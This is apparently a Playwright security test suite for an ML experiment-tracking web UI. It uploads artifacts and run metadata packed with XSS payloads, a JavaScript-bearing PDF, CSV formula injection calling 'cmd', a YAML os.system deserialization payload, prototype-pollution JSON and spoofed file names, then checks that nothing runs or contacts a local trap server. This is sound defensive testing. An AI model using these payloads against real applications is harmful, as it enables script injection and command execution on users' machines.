"""What strangers logged, looked at in Chromium: nothing of it runs, asks another host, opens a window or a dialog."""

import json
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Dialog, Frame, Page, expect

from .conftest import Tracker
from .pages.run import RunPage

START = 1_760_000_000_000
_VIEWER = "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/"
"""Chromium's own viewer for PDF."""
RUN = "window.ran=1;alert(document.domain);fetch('TRAP/ran')"
MARKUP = (
    f'<script>{RUN}</script><img src=x onerror="{RUN}"><img src="TRAP/seen.png"><svg onload="{RUN}"></svg>'
    f'<iframe src="javascript:parent.{RUN}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    f'<a href="javascript:{RUN}" id=link>go</a><style>@import "TRAP/style.css";*{{display:none}}</style>'
    f'<link rel=stylesheet href="TRAP/style.css"><base href="TRAP/"><meta http-equiv=refresh content="0;url=TRAP/gone">'
    f'<form action="TRAP/form"><button autofocus onfocus="{RUN}">go</button></form><object data="TRAP/o"></object>'
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="30" '
    f'onload="{RUN}"><script>{RUN}</script><script xlink:href="TRAP/script.js"/><image href="TRAP/seen.png"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"><iframe src="TRAP/frame"/></body>'
    f'</foreignObject><animate attributeName="x" onbegin="{RUN}"/><rect width="60" height="30"/></svg>'
)
MARKDOWN = f"""# Shown

[one](javascript:{RUN}) [two](JaVaScRiPt:{RUN}) [three](java\tscript:{RUN})
[four](data:text/html,<script>{RUN}</script>)
[five](vbscript:x) [six](&#106;avascript:{RUN}) [seven](//evil.example) <javascript:{RUN}> [eight]: javascript:{RUN}

![seen](TRAP/seen.png) ![x](x" onerror="{RUN}) [eight]

{MARKUP}

`<script>{RUN}</script>` | <b onmouseover="{RUN}">x</b>
"""
NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": MARKUP}},
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": [MARKDOWN]},
            {
                "cell_type": "code",
                "metadata": {"trusted": True},
                "execution_count": 1,
                "source": [MARKUP],
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": MARKUP, "image/svg+xml": SVG, "application/javascript": RUN},
                    },
                    {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]},
                ],
            },
        ],
    }
)
FILES = {
    "page.html": MARKUP,
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
    "data.xml": f'<?xml-stylesheet type="text/xsl" href="TRAP/evil.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{RUN}</h:script></a>',
    "paper.pdf": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);"
    "app.launchURL\\('TRAP/pdf'\\);)>>/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    "trailer<</Root 1 0 R>>\n%%EOF",
    "markup.pdf": MARKUP,
    "picture.svg": SVG,
    "picture.png": MARKUP,
    "notes.md": MARKDOWN,
    "work.ipynb": NOTEBOOK,
    "proto.json": '{"__proto__": {"ran": 1, "innerHTML": "x"}, "constructor": {"prototype": {"ran": 1}}, '
    f'"toString": 1, "hasOwnProperty": null, {json.dumps(MARKUP)}: {json.dumps(MARKUP)}}}',
    "proto-table.json": '{"columns": ["__proto__", "constructor"], "data": [[{"ran": 1}, "x"]]}',
    "deep.json": "[" * 3000 + "]" * 3000,
    "rows.csv": f'name,=cmd|\' /C calc\'!A0\n"=HYPERLINK(""TRAP/csv"",""x"")",{json.dumps(MARKUP)}\n@SUM(1+1),+1\n',
    "rows.tsv": f"a\tb\n{MARKUP}\t=1+1\n",
    "MLmodel": f"flavors: !!python/object/apply:os.system ['id']\nname: {MARKUP}\n",
    "conf.yaml": f"a: &a [*a, *a]\nb: {MARKUP}\n",
    "script.js": RUN,
    "plain": MARKUP,
}
NAMES = (
    f"<img src=x onerror={quote('window.ran=1', safe='=.')}>.txt",
    '"><script>window.ran=1<%2Fscript>.txt',
    "javascript:window.ran=1;.md",
    "__proto__",
    "\u202egpj.exe.txt",
)


@dataclass(frozen=True)
class Scene:
    """A run full of hostile things, and an address that nobody may ask."""

    experiment_id: str
    run_id: str
    trap: str


@pytest.fixture(scope="module")
def scene(tracker: Tracker) -> Iterator[Scene]:
    """Log all of it; at the end nobody has come to the trap."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        trap = f"http://127.0.0.1:{listening.getsockname()[1]}"
        markup = MARKUP.replace("TRAP", trap)
        experiment_id = tracker.experiment(f"hostile {markup[:400]}", MARKDOWN.replace("TRAP", trap))
        run_id = tracker.run(
            experiment_id,
            f"run {markup[:200]}",
            start=START,
            params={"__proto__": markup, "constructor": "=1+1", "a": markup},
            metrics={"__proto__": [1.0, 2.0], "toString": [1.0], "loss": [2.0, 1.0]},
            tags={
                "mlflow.note.content": MARKDOWN.replace("TRAP", trap),
                "mlflow.source.name": f"javascript:{RUN}",
                "mlflow.source.git.repoURL": f"javascript:{RUN}",
                "mlflow.source.git.commit": markup,
                "mlflow.user": markup,
                "__proto__": markup,
                "a": markup,
            },
        )
        dataset = {"name": markup[:400], "digest": "d", "source_type": markup, "source": markup, "schema": markup}
        tracker.post("runs/log-inputs", run_id=run_id, datasets=[{"dataset": dataset}])
        root = f"/api/2.0/mlflow-artifacts/artifacts/{experiment_id}/{run_id}/artifacts"
        for name, content in FILES.items():
            tracker.http.put(f"{root}/{name}", content=content.replace("TRAP", trap)).raise_for_status()
        for name in NAMES:
            tracker.http.put(f"{root}/{quote(name, safe='%')}", content=b"named").raise_for_status()
        yield Scene(experiment_id, run_id, trap)
        listening.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listening.accept()


@pytest.fixture
def page(context: BrowserContext, tracker: Tracker) -> Iterator[Page]:
    """Give a tab in which, at the end, nothing has run, opened or been asked for elsewhere."""
    events: list[str] = []
    home = f"{tracker.url}/ajax-api/trackline/artifacts/frame?"

    def dismiss(dialog: Dialog) -> None:
        events.append(f"dialog {dialog.message}")
        dialog.dismiss()

    tab = context.new_page()
    tab.on("dialog", dismiss)
    tab.on("pageerror", lambda error: events.append(f"script error {error}"))
    tab.on("popup", lambda other: events.append(f"popup {other.url}"))
    tab.on("download", lambda download: events.append(f"download {download.url}"))
    tab.on("framenavigated", lambda frame: events.append(f"frame {frame.url}") if _is_stray(frame, home) else None)
    # What a policy blocks is told as a request, too; only what was answered had gone out.
    tab.on("response", lambda answer: events.append(answer.url) if _is_elsewhere(answer.url, tracker) else None)
    yield tab
    tab.wait_for_timeout(200)
    assert events == []
    assert tab.url.startswith(tracker.url)
    assert tab.evaluate("[window.ran, ({}).ran, [].ran]") == [None, None, None]
    assert tab.locator("object, embed, main script, base[href^='http']").count() == 0
    assert tab.locator("iframe:not([sandbox='']):not([src*='.pdf'])").count() == 0


def _is_elsewhere(url: str, tracker: Tracker) -> bool:
    return url.startswith("http") and not url.startswith(tracker.url)


def _is_stray(frame: Frame, home: str) -> bool:
    """Tell whether a frame within the page shows anything but a file as paper."""
    return frame.parent_frame is not None and not frame.url.startswith((home, "about:", _VIEWER))


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_shown_and_does_nothing(page: Page, scene: Scene, name: str) -> None:
    """Every preview shows the file for what it is, or says that it has none."""
    run = RunPage(page).open(scene.run_id, f"?tab=artifacts&file={quote(name)}")

    expect(run.files.content(name).locator("*").first).to_be_visible()
    expect(page.get_by_text("Loading")).to_have_count(0)


def test_hostile_names_are_names(page: Page, scene: Scene) -> None:
    """A file may be called anything; the list shows it as text."""
    run = RunPage(page).open(scene.run_id, "?tab=artifacts")

    expect(run.files.tree).to_contain_text("__proto__")
    expect(run.files.tree).to_contain_text("<img src=x")


def test_no_link_of_a_note_runs(page: Page, scene: Scene) -> None:
    """In Markdown the only links are those to the web and to mail."""
    content = RunPage(page).open(scene.run_id, "?tab=artifacts&file=notes.md").files.content("notes.md")
    expect(content).to_contain_text("Shown")

    found = content.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(found) <= {"http:", "https:", "mailto:"}
    assert content.locator("img, script, style, form, svg").count() == 0


@pytest.mark.parametrize("tab", ["overview", "charts"])
def test_hostile_texts_of_a_run_are_text(page: Page, scene: Scene, tab: str) -> None:
    """Names, params, tags, notes and data sets are shown as they were written."""
    RunPage(page).open(scene.run_id, f"?tab={tab}")

    expect(page.get_by_role("heading", level=1)).to_contain_text("<script>window.ran=1")
    assert page.locator("main a[href^='javascript']").count() == 0


def test_hostile_texts_in_tables_are_text(page: Page, scene: Scene) -> None:
    """So they are in the lists of experiments and runs."""
    page.goto("/experiments")
    # Found by its name: the list draws the rows in view, and other tests have experiments of their own.
    page.get_by_role("searchbox", name="Search experiments").fill("hostile <script>")
    expect(page.get_by_role("table").get_by_text("hostile <script>").first).to_be_visible()
    page.goto(f"/experiments/{scene.experiment_id}")
    expect(page.get_by_text("run <script>").first).to_be_visible()


@pytest.mark.parametrize("name", ["page.html", "page.xhtml", "data.xml", "picture.svg", "notes.md", "plain"])
def test_the_address_of_a_file_saves_it(context: BrowserContext, tracker: Tracker, scene: Scene, name: str) -> None:
    """Opened by itself, a file is downloaded, whatever it is; no page of it comes to be in our origin."""
    tab = context.new_page()
    address = f"{tracker.url}/get-artifact?run_id={scene.run_id}&path={name}"
    with tab.expect_download() as started:
        tab.evaluate("address => { location.href = address }", address)
    assert started.value.suggested_filename == name
    assert tab.url == "about:blank"
